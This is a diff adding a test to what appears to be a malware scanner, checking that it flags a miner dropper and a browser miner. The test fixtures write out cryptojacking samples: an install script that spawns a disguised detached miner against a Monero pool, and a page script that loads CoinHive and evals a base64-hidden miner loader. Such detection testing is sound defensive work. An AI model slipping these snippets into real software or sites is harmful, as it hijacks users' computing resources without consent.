@@ -300,3 +300,36 @@ def test_a_package_install_hook_that_runs_a_dropper_command_is_medium(tmp_path: 
     assert by_dir["not-a-hook"].severity == Severity.LOW
     assert "MH-SCRIPT-024" not in {e.check_id for e in by_dir["not-a-hook"].evidence}
     assert "local-file" not in by_dir
+
+
+def test_a_dropper_that_names_a_pool_host_is_reported_as_a_dropper(tmp_path: Path) -> None:
+    # The pool host is also what the website checks look for (MH-WEB-001, "browser-miner
+    # host"); a file that starts a hidden miner with it is a dropper all the same, and a
+    # page script that names a browser-miner host and evaluates a decoded blob (which the
+    # script analysis reads too) stays a browser miner.
+    (tmp_path / "install.js").write_text(
+        'const { spawn } = require("child_process");\n'
+        'const bin = "/tmp/.cache/kworker";\n'
+        'spawn(bin, ["-o", "pool.supportxmr.com:443", "--donate-level", "1"],'
+        " { detached: true }).unref();\n"
+    )
+    loader = base64.b64encode(
+        b"var m = new CoinHive.Anonymous('SITE_KEY_0123456789abcdef', {throttle: 0.3});"
+        b"m.start();" + b" " * 200
+    ).decode()
+    (tmp_path / "page.js").write_text(
+        'document.write("<script src=https://coinhive.com/lib/coinhive.min.js>");\n'
+        f'eval(atob("{loader}"));\n'
+    )
+    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
+    by_name = {Path(f.target.path or "").name: f for f in res.report.findings}
+    dropped = by_name["install.js"]
+    assert (dropped.check_id, dropped.title) == ("MH-SCRIPT-001", "Dropper script behaviours")
+    named = next(e for e in dropped.evidence if e.check_id == "MH-WEB-001")
+    assert "pool.supportxmr.com" in named.summary
+    assert {"MH-WEB-001", "MH-SCRIPT-019", "MH-SCRIPT-022"} <= {
+        e.check_id for e in dropped.evidence
+    }
+    assert dropped.severity >= Severity.HIGH
+    page = by_name["page.js"]
+    assert page.check_id.startswith("MH-WEB-"), page.check_id
